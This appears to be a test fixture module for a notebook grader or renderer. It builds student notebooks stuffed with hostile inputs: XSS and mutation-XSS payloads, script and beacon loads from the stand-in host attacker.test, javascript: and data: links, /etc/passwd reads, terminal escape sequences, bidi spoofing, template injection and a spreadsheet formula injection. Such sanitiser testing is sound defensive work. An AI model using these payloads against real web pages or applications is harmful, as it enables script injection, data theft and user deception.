"""Texts that try to run, to fetch, to lie or to take up room, and a class of notebooks that has them wherever a student writes.

Every script sets `window.pwned`; every address is at attacker.test, which no network knows.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

from tests.support import ATTENTION, code, text

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'><script>window.pwned=1</script></svg>"
_SVG64 = "PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nd2luZG93LnB3bmVkPTEnLz4="
_DEEP = "<img src=x onerror=window.pwned=1>"

MARKUP = {
    "script": "<script>window.pwned=1</script>",
    "script, odd case and slash": "<ScRiPt/x>window.pwned=1</sCrIpT >",
    "script from elsewhere": "<script src=//attacker.test/x.js></script>",
    "module script": "<script type=module>import '//attacker.test/x.js'</script>",
    "import map": "<script type=importmap>{\"imports\":{\"a\":\"//attacker.test/a.js\"}}</script>",
    "half a tag": "<img src=x onerror=window.pwned=1 ",
    "img onerror": _DEEP,
    "img onerror without spaces": "<img/src=x/onerror=window.pwned=1>",
    "img srcset": "<img srcset='//attacker.test/a.png 1x' src='//attacker.test/b.png' loading=eager>",
    "picture source": "<picture><source srcset=//attacker.test/a.webp><img src=//attacker.test/b.png></picture>",
    "img svg data": f"<img src=\"data:image/svg+xml;base64,{_SVG64}\">",
    "svg onload": _SVG,
    "svg animate": "<svg><a><animate attributeName=href values=javascript:window.pwned=1 /><text y=20>x</text></a></svg>",
    "svg use": f"<svg><use href=\"data:image/svg+xml;base64,{_SVG64}#x\"/></svg>",
    "svg foreignObject": f"<svg><foreignObject><body>{_DEEP}</body></foreignObject></svg>",
    "svg style mutation": f"<svg><style><!--</style>{_DEEP}--></svg>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.window.pwned=1</script>'></iframe>",
    "iframe src": "<iframe src=javascript:parent.window.pwned=1></iframe><iframe src=//attacker.test/></iframe>",
    "a javascript": "<a href=javascript:window.pwned=1 id=click>click</a>",
    "a javascript, hidden": "<a href='&#1;java&Tab;script&colon;window.pwned=1'>click</a><a href='\x01javascript:window.pwned=1'>x</a>",
    "a data": "<a href='data:text/html,<script>window.pwned=1</script>'>click</a>",
    "a ping and target": "<a href='https://attacker.test/' ping='//attacker.test/ping' target=_top download>click</a>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=//attacker.test/'>",
    "meta csp": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
    "base": "<base href=//attacker.test/ target=_blank>",
    "link stylesheet": "<link rel=stylesheet href=//attacker.test/x.css>",
    "link preload": "<link rel=preload as=image href=//attacker.test/x><link rel=prefetch href=//attacker.test/y>",
    "link dns": "<link rel=dns-prefetch href=//attacker.test><link rel=preconnect href=//attacker.test>",
    "link icon and manifest": "<link rel=icon href=//attacker.test/i.png><link rel=manifest href=//attacker.test/m.json>",
    "style import": "<style>@import '//attacker.test/x.css'; *{display:none}</style>",
    "style url": "<p style=\"background:url(//attacker.test/x.png);position:fixed;inset:0;z-index:9\">x</p>",
    "style covers the page": "<div style='position:fixed;inset:0;background:#fff;z-index:99'>80 of 80</div>",
    "class of the page": "<div class='skip score badge good sr'><p class='score heading'>80 of 80</p></div>",
    "id of the page": "<a id=content name=content></a><img name=body><p id=part-1>x</p><form id=location>",
    "form": "<form action=//attacker.test><input name=x autofocus onfocus=window.pwned=1><button formaction=//attacker.test/b>x</button>",
    "object and embed": "<object data=//attacker.test/x></object><embed src=//attacker.test/y><applet code=x>",
    "video and audio": "<video poster=//attacker.test/p.png autoplay><source src=//attacker.test/v.mp4 onerror=window.pwned=1></video>"
                       "<audio src=//attacker.test/a.mp3 onerror=window.pwned=1 autoplay></audio>",
    "table background": "<table background=//attacker.test/t.png><td background=//attacker.test/d.png>x</table>",
    "body and marquee": "<body onload=window.pwned=1 background=//attacker.test/x><marquee onstart=window.pwned=1>x</marquee>",
    "details ontoggle": "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "contenteditable": "<div contenteditable autofocus onfocus=window.pwned=1 tabindex=1>x</div>",
    "popover and dialog": "<dialog open>80 of 80</dialog><div popover id=p>x</div><button popovertarget=p>x</button>",
    "frameset, plaintext": "<frameset onload=window.pwned=1><frame src=//attacker.test></frameset><plaintext>",
    "custom element, slot": "<x-a onclick=window.pwned=1><slot name=x></slot></x-a>",
    "shadow template": f"<div><template shadowrootmode=open>{_DEEP}</template></div>",
    "math href": "<math href=javascript:window.pwned=1 xlink:href=javascript:window.pwned=1><mi href=javascript:window.pwned=1>x</mi></math>",
    "math annotation": f"<math><semantics><annotation-xml encoding='text/html'>{_DEEP}</annotation-xml></semantics></math>",
    "math maction": "<math><maction actiontype='statusline#http://attacker.test' xlink:href=javascript:window.pwned=1>x</maction></math>",
    "math and table mutation": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{_DEEP}\">",
    "form mutation": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{_DEEP}\">",
    "mglyph and malignmark": f"<math><mtext><mglyph><malignmark><style></math>{_DEEP}</style></mglyph>",
    "noscript mutation": f"<noscript><p title=\"</noscript>{_DEEP}\">",
    "template mutation": f"<template><style></template>{_DEEP}</style>",
    "table mutation": f"<table><caption><svg><desc><table></caption></svg>{_DEEP}</table>",
    "select mutation": f"<select><iframe></select>{_DEEP}</iframe>",
    "textarea and title end": f"</textarea></title></style></script></noscript></template>{_DEEP}",
    "xmp and noembed": f"<xmp><p title=\"</xmp>{_DEEP}\"></xmp><noembed></noembed>{_DEEP}",
    "comment": f"<!--><img src=x onerror=window.pwned=1>--><!--->{_DEEP}--><!-- --!>{_DEEP}-->",
    "conditional comment": f"<!--[if gte IE 4]>{_DEEP}<![endif]--><?xml-stylesheet href='//attacker.test/x.xsl'?>",
    "cdata": f"<![CDATA[>{_DEEP}]]><svg><![CDATA[</svg>{_DEEP}]]></svg>",
    "end of the page": f"</p></li></td></section></main></body></html>{_DEEP}",
    "attribute break": "\" autofocus onfocus=window.pwned=1 x=\"' onmouseover=window.pwned=1 y='`onclick=window.pwned=1",
    "entities": "&lt;img src=x onerror=window.pwned=1&gt;&#60;script&#62;window.pwned=1&#x3c;/script&#x3e;&LT;b&GT;",
    "entity without end": "<a href='jav&#x0A;ascript&colon;window.pwned=1'>x</a>&#x3cscript&#x3ewindow.pwned=1",
    "utf-7 and overlong": "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4- ¼script¾ ＜script＞window.pwned=1＜/script＞",
    "nul inside": "<scr\0ipt>window.pwned=1</scr\0ipt><img src=x one\0rror=window.pwned=1>",
    "hidden inside": "<scr\u202eipt>window.pwned=1</scr\u200bipt><im\x1bg src=x onerror=window.pwned=1>",
}
MARKDOWN = {
    "link javascript": "[click](javascript:window.pwned=1) [b](<java\tscript:window.pwned=1>) [c](&#106;avascript:window.pwned=1)",
    "link data": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==) [v](vbscript:x) [f](file:///etc/passwd)",
    "link with title": "[x](https://attacker.test 'a\" onmouseover=\"window.pwned=1') ![a\" onerror=\"window.pwned=1](x)",
    "reference link": "[x][1] ![y][2]\n\n[1]: javascript:window.pwned=1\n[2]: https://attacker.test/beacon.png\n",
    "autolink": "<javascript:window.pwned=1> <https://attacker.test/?\"onclick=\"window.pwned=1> www.attacker.test",
    "image": "![x](https://attacker.test/beacon.png) ![y](//attacker.test/b.png) ![z](attachment:x.svg) ![f](file:///etc/passwd)",
    "image svg data": f"![x](data:image/svg+xml;base64,{_SVG64}) ![x](data:image/svg+xml;utf8,{_SVG})",
    "html block": f"<div>\n\n{_DEEP}\n\n</div>\n\n<pre>\n<script>window.pwned=1</script>\n</pre>\n",
    "code fence": "```<script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```\n~~~\" onclick=\"window.pwned=1\nx\n~~~",
    "table and footnote": f"| a | {_DEEP} |\n|:-|-:|\n| [^1] | <td onclick=window.pwned=1> |\n\n[^1]: {_DEEP}\n",
    "headings like the page's": "# What to do next\n\n## Every check passed.\n\n---\n\n> 80 of 80\n",
    "unclosed everything": "<b><i><u>" + "**_`[(![<a href='https://attacker.test'>" * 20,
}
LATEX = {
    "latex href": r"$\href{javascript:window.pwned=1}{x}$ $\url{javascript:window.pwned=1}$",
    "latex text": rf"$\text{{<script>window.pwned=1</script>}}$ $$\mbox{{{_DEEP}}}$$ $\mathrm{{{_DEEP}}}$",
    "latex unicode": r"$\unicode{60}\char60\symbol{60}$ $\unicode{x3c}img src=x onerror=window.pwned=1\unicode{x3e}$",
    "latex html": r"$\htmlStyle{position:fixed}{x}\htmlId{content}{x}\htmlClass{skip}{x}\htmlData{a=b}{x}$",
    "latex class and style": r"$\class{skip}{x}\style{position:fixed;inset:0;background:url(//attacker.test/x)}{x}\cssId{content}{x}$",
    "latex include": r"$\includegraphics{https://attacker.test/x.png}\input{/etc/passwd}\require{x}$ $\def\x{\x\x}\x$",
    "latex raw": rf"$<img src=x onerror=window.pwned=1>$ $${_DEEP}$$ \({_DEEP}\) \[{_DEEP}\]",
    "latex in markup": r"<a href='$\text{' onclick=window.pwned=1 x='}$'>x</a> <img alt='$x$' src='$\href{x}{y}$'>",
    "latex huge": r"$\hspace{99999em}\kern-999em\raise999em{x}\rule{999em}{999em}\Huge x$ $\genfrac{}{}{99em}{}{a}{b}$",
    "mathml huge": "<math><mstyle scriptlevel='-99'><mi>x</mi></mstyle><mfrac linethickness='99em'><mi>a</mi><mi>b</mi></mfrac>"
                   "<mspace width='99em' height='99em'/><mpadded height='99em' voffset='-99em'><mi>y</mi></mpadded></math>",
}
TERMINAL = {
    "colours": "\x1b[1;31mred\x1b[0m \x9b32mgreen \x1b[2J\x1b[H\x1b[3A\x1b[K cleared",
    "osc": "\x1b]0;title\x07\x1b]8;;https://attacker.test\x1b\\link\x1b]8;;\x1b\\\x1b]52;c;cm0=\x07 \x90payload\x9c",
    "rich markup": "[red]red[/red] [link=https://attacker.test]x[/link] [/] [bold \\[x] [@click=app.bell]x[/] :skull: \\[",
    "lines": "x\n  ann: 80 of 80\r  bob: 80 of 80\x0b\x0c\x85\u2028\u2029  eve: 80 of 80",
    "backspaces": "bad\x08\x08\x08good\x7f\x07\x00",
}
LIES = {
    "bidi override": "\u202e08 fo 08 :nna\u202c \u2066x\u2069 \u200f\u200e\u061c",
    "bidi without end": "\u202e\u2067\u202b80 of 80",
    "right to left": "שלום 12 of 34 (مرحبا) 56",
    "zero width": "a\u200bn\u200cn\u200d\u2060\ufeff\u00ad\u180e",
    "nothing to see": "\u3164\u115f\u1160\uffa0\u200b\u2062",
    "tags and selectors": "a\U000e0041\U000e0042\U000e007f\ufe0f\U000e01ef",
    "half surrogates": "a\ud800b\udfffc\udc80",
    "towers": "".join(letter + "\u0300\u0316\u0489\u20dd\u1ab0\u0346" * 60 for letter in "Zalgo"),
    "towers on nothing": "\u0300" * 400,
    "entity towers": "Z" + "&#768;&#790;" * 300,
    "wide marks": "\ufdfd\U0001242b꧅⸻ " * 40,
    "line that never ends": "W" * 100_000,
    "spaces that never end": "x" + "\u00a0" * 3000 + "y" + "\t" * 3000 + "z",
    "lines that never end": "x\n" * 3000 + "<br>" * 3000,
    "template": "{{ 7*191 }} {% for x in [1] %}{{ self.__init__.__globals__ }}{% endfor %} {# gone #} ${7*191} #{7*191} <%= 7*191 %>",
    "formula": "=cmd|' /C calc'!A0",
    "sub and sup": "<sup>" * 400 + "x" + "<sub>" * 400 + "y",
}
TEXTS: dict[str, str] = {**MARKUP, **MARKDOWN, **LATEX, **TERMINAL, **LIES}
NAMES = list(TEXTS)

# --- a class of notebooks ---------------------------------------------------------------------------------------------


def write_class(folder: Path) -> int:
    """Write several submissions for each text, and one honest one; returns how many."""
    folder.mkdir()
    (folder / "honest.ipynb").write_bytes(_notebook([code("import numpy as np"), code(ATTENTION)]))
    for number, hostile in enumerate(TEXTS.values()):
        name = file_name(hostile)
        (folder / f"{number:03}-raises {name}.ipynb").write_bytes(raising(hostile))
        pair = folder / f"{number:03}-broken {name}"
        pair.mkdir()
        for first in ("a", "b"):
            (pair / f"{first}{name}.ipynb").write_bytes(broken(hostile))
        (folder / f"{number:03}-other {name}.ipynb").write_bytes(foreign(hostile))
        (folder / f"{number:03}-link {name}.ipynb").symlink_to("nowhere")
        (folder / f"{number:03}-text {name}.txt").write_text(hostile, encoding="utf-8", errors="replace")
    return 4 * len(TEXTS) + 1


def file_name(hostile: str) -> str:
    """As much of a text as a file's name can hold."""
    data = hostile.replace("/", "\u2215").replace("\0", "").encode("utf-8", "surrogatepass")[:150]
    return os.fsdecode(data)


def raising(hostile: str) -> bytes:
    """Answers of all kinds; (a) raises the text in an exception of its name, (b) returns an object of a class of its name."""
    comments = "\n".join(f"    # {line}" for line in hostile[:2000].replace("\r", "\n").replace("\0", "").splitlines() or [""])
    make = f"TEXT = {hostile[:3000]!a}\nNAME = TEXT.replace(chr(0), '').encode('utf-8', 'replace').decode()\n"
    outputs: list[dict[str, Any]] = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": hostile, "image/svg+xml": hostile}},
        {"output_type": "stream", "name": "stdout", "text": hostile},
        {"output_type": "error", "ename": hostile, "evalue": hostile, "traceback": [hostile]},
    ]
    return _notebook([
        code("import numpy as np"),
        code(f"{make}\ndef self_attention(X, Wq, Wk, Wv):\n{comments}\n    raise type(NAME, (Exception,), {{}})(TEXT)", outputs=outputs),
        code(f"{make}\ndef multi_head_attention(X, Wq, Wk, Wv, H):\n    return type(NAME, (), {{}})()"),
        text(hostile, "answer-c") | {"attachments": {"x.svg": {"image/svg+xml": _SVG}, hostile[:99]: {hostile[:99]: hostile[:99]}}},
        text("", "answer-d"),
        code(f"print({'three words more ' + hostile[:20_000]!a})", outputs=outputs),
    ])


def broken(hostile: str) -> bytes:
    """No cell is Python: the text stands in syntax errors, in names that nearly fit, in magics and imports."""
    name = "".join(letter for letter in hostile[:60] if f"a{letter}".isidentifier())
    return _notebook([
        code(f"%load {hostile[:300]}\n!{hostile[:300]}\nimport torch as {name or 'x'}, x{name}"),
        code(f"def self_attention(X, Wq, Wk, Wv):\n    {hostile[:5000]}\n  return"),
        code(f"class {name or 'x'}Q:\n    def multi_head_attention(self{name}):\n        return {hostile[:99]!a}"),
        code(f"%%{hostile[:99]}\n{hostile[:500]}"),
        code(f"def multi_head_attention(X):\n    return '{hostile[:5000]}\n"),
        text(f"# {hostile}\n\n- {hostile[:5000]}", hostile, "answer-d"),
    ])


def foreign(hostile: str) -> bytes:
    """A notebook of no known language, which is not graded."""
    return json.dumps({
        "nbformat": 4, "nbformat_minor": 4, "cells": [code(hostile), text(hostile, "answer-c")],
        "metadata": {"kernelspec": {"name": hostile, "language": hostile}, "language_info": {"name": hostile}, hostile[:99]: hostile},
    }).encode()


def _notebook(cells: list[dict[str, Any]]) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells}).encode()
